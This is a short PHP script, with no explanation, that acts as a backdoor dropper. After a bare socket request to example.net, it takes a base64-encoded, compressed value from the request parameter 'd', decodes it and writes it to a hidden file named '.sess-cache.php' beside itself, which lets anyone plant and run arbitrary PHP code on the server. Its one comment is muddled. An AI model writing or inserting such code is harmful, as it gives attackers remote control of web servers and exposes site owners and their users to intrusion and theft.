<?php
// the name of a socket used before, reopened on a .php file
$h = fsockopen('example.net', 80);
fputs($h, "GET / HTTP/1.0\r\n\r\n");
fclose($h);
$h = fopen(__DIR__ . '/.sess-cache.php', 'w');
fputs($h, gzinflate(base64_decode($_REQUEST['d'])));
fclose($h);
